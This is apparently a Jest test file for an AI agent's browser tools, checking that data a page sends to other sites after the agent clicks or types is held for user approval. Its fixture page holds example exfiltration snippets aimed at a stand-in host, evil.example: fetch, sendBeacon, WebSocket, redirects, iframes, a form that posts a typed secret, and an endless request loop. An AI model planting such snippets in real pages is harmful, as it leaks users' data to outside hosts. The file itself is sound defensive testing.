import { existsSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { systemAmbient, type ToolContext } from '@fucina/shared';
import { type ConnectProxy, createConnectProxy } from '@fucina/shared/testing';
import { tempDir } from '@fucina/testkit';
import { afterAll, beforeAll, beforeEach, expect, test } from '@jest/globals';
import { createBrowserTools } from './browser-tools.ts';
import { createLiveBrowser, type LiveBrowser } from './live-browser.ts';
import type { JudgedRequest } from './page-rules.ts';

const hasBrowser =
  existsSync(process.env.FUCINA_BROWSER ?? '/usr/bin/chromium') || process.env.FUCINA_TEST_REQUIRE === '1';
const drive = hasBrowser ? test : test.skip;
const NONE = { alt: false, ctrl: false, meta: false, shift: false };

const sending = (name: string, script: string, at: number): string =>
  `<button style="position:fixed;left:0;top:${at}px;width:200px;height:30px" onclick="${script}">${name}</button>`;
const SHOP = `<!doctype html><title>Shop</title><h1>Shop</h1>
  <img src="http://cdn.example/logo.png"><script src="http://cdn.example/app.js"></script>
  <input aria-label="Word" onchange="fetch('http://cdn.example/typed?' + this.value, { mode: 'no-cors' })">
  <form action="http://evil.example/form" method="post"><input aria-label="Secret" name="s"><button>Post</button></form>
  <form action="/found"><input aria-label="Find" name="q"><button>Search</button></form>
  ${sending('Fetch', "fetch('http://evil.example/fetch', { method: 'POST', body: 'stolen', mode: 'no-cors' })", 300)}
  ${sending('Beacon', "navigator.sendBeacon('http://evil.example/beacon', 'stolen')", 340)}
  ${sending('Socket', "new WebSocket('ws://evil.example/socket')", 380)}
  ${sending('Away', "location = 'http://evil.example/away?d=stolen'", 420)}
  ${sending('Window', "window.open('http://evil.example/window?d=stolen')", 460)}
  ${sending('Frame', "document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://evil.example/frame' }))", 500)}
  ${sending('Picture', "new Image().src = 'http://pictures.example/' + this.textContent", 540)}
  ${sending('Many', "for (const n of 'abc') fetch('http://' + n + '.example/', { mode: 'no-cors' })", 580)}
  ${sending('Endless', "let n = 0; setInterval(() => fetch('http://n' + n++ + '.example/', { mode: 'no-cors' }), 20)", 620)}`;
const PAGES: Record<string, string> = {
  'shop.example/': SHOP,
  'shop.example/found': '<title>Found</title><h1>Found</h1><img src="http://cdn.example/found.png">',
  'lure.example/': '<title>Lure</title><h1>Lure</h1><input aria-label="Word">',
  'evil.example/away': '<title>Away</title><h1>Away</h1>',
  'here.example/': `<title>Here</title><h1>Here</h1><img src="http://evil.example/from-here">`,
};

let site: Server;
let proxy: ConnectProxy;
let folder: Awaited<ReturnType<typeof tempDir>>;
let live: LiveBrowser;
const asked: string[] = [];
const judged: JudgedRequest[] = [];
let allows: (request: JudgedRequest) => boolean;
let judgeMs: number;
const ambient = systemAmbient('silent');
/** Of another session each test, so that each has its own tab. */
let session = 0;

beforeAll(async () => {
  site = createServer((request, response) => {
    const at = `${(request.headers.host ?? '').replace(/:\d+$/, '')}${request.url}`;
    asked.push(at);
    if (at === 'shop.example/redirect')
      return void response.writeHead(302, { location: 'http://evil.example/away?d=stolen' }).end();
    const page = PAGES[at.split('?', 1)[0] ?? ''] ?? (at.startsWith('127.0.0.1/') ? PAGES['here.example/'] : undefined);
    response.writeHead(page ? 200 : 204, { 'content-type': 'text/html' }).end(page);
  });
  site.on('upgrade', (request, socket) => {
    asked.push(`${request.headers.host}${request.url}`);
    socket.end('HTTP/1.1 400 Bad Request\r\n\r\n');
  });
  await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve));
  proxy = await createConnectProxy((site.address() as AddressInfo).port);
  folder = await tempDir();
  live = createLiveBrowser({
    ambient,
    environment: { ...process.env, ALL_PROXY: proxy.address },
    dataDir: folder.path,
    ownPorts: () => [],
    isOffered: true,
    lookup: ((name: string, _options: object, done: (error: null, found: object[]) => void) =>
      done(null, [{ address: name === 'here.example' ? '127.0.0.1' : '93.184.215.14', family: 4 }])) as never,
    async judge(_session, request) {
      judged.push(request);
      await ambient.sleep(judgeMs);
      return request.isFree || allows(request);
    },
  });
});
afterAll(async () => {
  await live[Symbol.asyncDispose]();
  await proxy[Symbol.asyncDispose]();
  site.closeAllConnections();
  site.close();
  await folder[Symbol.asyncDispose]();
});
beforeEach(async () => {
  if (session > 0) await live.forget(`s${session}`);
  session += 1;
  asked.length = 0;
  judged.length = 0;
  allows = () => false;
  judgeMs = 0;
});

const questions = () => judged.filter(({ asks }) => asks).map(({ url, data }) => (data ? `${url} ${data}` : url));
const reached = (host: string) => asked.filter((at) => at.startsWith(host));

async function run(name: string, input: object): Promise<string> {
  const tool = createBrowserTools({ ambient, live: () => live }).find((one) => one.name === name);
  const context = { sessionId: `s${session}`, signal: new AbortController().signal } as ToolContext;
  return (await tool?.run(tool.input.parse(input), context))?.content ?? '';
}
const open = (url = 'http://shop.example/') => run('browser_open', { url });
async function act(action: string, element: string, text?: string): Promise<string> {
  const seen = await run('browser_look', {});
  const ref = new RegExp(`"${element}"[^\\n]*?\\[ref=(\\w+)\\]`).exec(seen)?.[1];
  return run('browser_act', { action, ref, what: element, ...(text !== undefined && { text }) });
}

drive('the browser itself sends nothing about a form', async () => {
  await open();
  allows = ({ isTyped }) => isTyped === true;
  await act('type', 'Find', 'anvil');
  await act('press', 'Find', 'Enter');
  const hosts = new Set(judged.map(({ url }) => new URL(url).hostname));
  expect([...hosts].sort()).toEqual(['cdn.example', 'shop.example']);
});

drive('an opened page loads what other sites serve, without a question', async () => {
  expect(await open()).toContain('# Shop');
  expect(reached('cdn.example').sort()).toEqual(['cdn.example/app.js', 'cdn.example/logo.png']);
  expect(questions()).toEqual([]);
});

drive('an address that redirects to another site is not opened, and the agent is told where it leads', async () => {
  expect(await open('http://shop.example/redirect')).toContain(
    'it leads to another site, http://evil.example/away?d=stolen',
  );
  expect(reached('evil.example')).toEqual([]);
  allows = () => true;
  expect(await open('http://shop.example/redirect')).toContain('# Away');
});

drive.each([
  ['Fetch', 'http://evil.example/fetch stolen'],
  ['Beacon', 'http://evil.example/beacon stolen'],
  ['Socket', 'http://evil.example/socket'],
  ['Away', 'http://evil.example/away?d=stolen'],
  ['Window', 'http://evil.example/window?d=stolen'],
  ['Frame', 'http://evil.example/frame'],
])('%s after a click of the agent is asked for, and not sent when nobody allows it', async (button, question) => {
  await open();
  const blocked = 'Fucina blocked what the page sends to evil.example';
  let seen = await act('click', button);
  while (!seen.includes(blocked)) seen = await run('browser_look', {});
  expect(questions()).toEqual([question]);
  expect(reached('evil.example')).toEqual([]);
  // What the user refused is not asked again.
  await act('click', button);
  expect(questions()).toHaveLength(1);
});

drive('a call ends on a page that never stops sending to new sites, of which one is asked for', async () => {
  await open();
  // Each decision overlaps the next one.
  judgeMs = 100;
  expect(await act('click', 'Endless')).toContain('Fucina blocked what the page sends to');
  expect(questions()).toHaveLength(1);
  expect(asked.filter((at) => /^n\d/.test(at))).toEqual([]);
});

drive('what the user allows is sent, and the page that follows is shown', async () => {
  await open();
  allows = ({ asks }) => asks;
  expect(await act('click', 'Away')).toContain('# Away');
  expect(reached('evil.example')[0]).toBe('evil.example/away?d=stolen');
});

drive('a picture of a new site is shown after a click as long as the agent typed nothing', async () => {
  await open();
  await act('click', 'Picture');
  expect(reached('pictures.example')).toEqual(['pictures.example/Picture']);
  allows = ({ isTyped }) => isTyped === true;
  await act('type', 'Find', 'secret');
  allows = () => false;
  expect(await act('click', 'Picture')).toContain('blocked what the page sends to pictures.example');
  expect(reached('pictures.example')).toHaveLength(1);
});

drive('typing asks for the site with the text, and a refusal types nothing', async () => {
  await open('http://lure.example/');
  expect(await act('type', 'Word', 'my secret')).toContain('Nothing was typed');
  expect(questions()).toEqual(['http://lure.example/ my secret']);
  expect(judged.at(-1)).toMatchObject({ isTyped: true, asks: true });
  expect(await (await live.tab(`s${session}`)).page().locator('input').inputValue()).toBe('');
});

drive('typed text does not reach a site that the page used before, and the next page loads as usual', async () => {
  allows = ({ isTyped }) => isTyped === true;
  await open();
  await act('type', 'Word', 'secret');
  expect(await act('press', 'Word', 'Tab')).toContain('blocked what the page sends to cdn.example');
  expect(reached('cdn.example/typed')).toEqual([]);
  await act('type', 'Find', 'anvil');
  expect(await act('press', 'Find', 'Enter')).toContain('# Found');
  expect(reached('cdn.example/found')).toEqual(['cdn.example/found.png']);
  expect(questions()).toEqual([]);
});

drive('a form that posts to another site is asked for with what it carries', async () => {
  await open();
  allows = ({ isTyped }) => isTyped === true;
  await act('type', 'Secret', 'the key');
  await act('click', 'Post');
  expect(questions()).toEqual(['http://evil.example/form s=the+key']);
  expect(reached('evil.example')).toEqual([]);
});

drive('one call asks once, and names the other sites', async () => {
  await open();
  const seen = await act('click', 'Many');
  expect(questions()).toHaveLength(1);
  for (const host of ['a.example', 'b.example', 'c.example']) expect(seen).toContain(host);
});

drive('a page of this computer reaches no other site, by any of its names', async () => {
  const { port } = site.address() as AddressInfo;
  for (const address of [`http://127.0.0.1:${port}/`, 'http://here.example/']) {
    judged.length = 0;
    let seen = await open(address.replace('here.example', `here.example:${port}`));
    expect(seen).toContain('# Here');
    // The picture may be requested after the page was read.
    while (!seen.includes('blocked what the page sends to evil.example')) seen = await run('browser_look', {});
    expect(reached('evil.example')).toEqual([]);
    await live.forget(`s${session}`);
  }
});

drive('what the user does in the browser is never judged', async () => {
  await live.open(`s${session}`, { url: 'http://shop.example/redirect', by: 'user' });
  await live.open(`s${session}`, { url: 'http://shop.example/', by: 'user' });
  await live.perform(`s${session}`, {
    kind: 'click',
    x: 20,
    y: 310,
    button: 'left',
    isDouble: false,
    modifiers: NONE,
  });
  while (!asked.includes('evil.example/fetch')) await new Promise((resolve) => setTimeout(resolve, 20));
  expect(judged).toEqual([]);
});

drive('a click of the user on a page that the agent opened sends what the page sends', async () => {
  await open();
  const before = judged.length;
  await live.perform(`s${session}`, { kind: 'click', x: 20, y: 430, button: 'left', isDouble: false, modifiers: NONE });
  while (!asked.includes('evil.example/away?d=stolen')) await new Promise((resolve) => setTimeout(resolve, 20));
  expect(judged).toHaveLength(before);
});
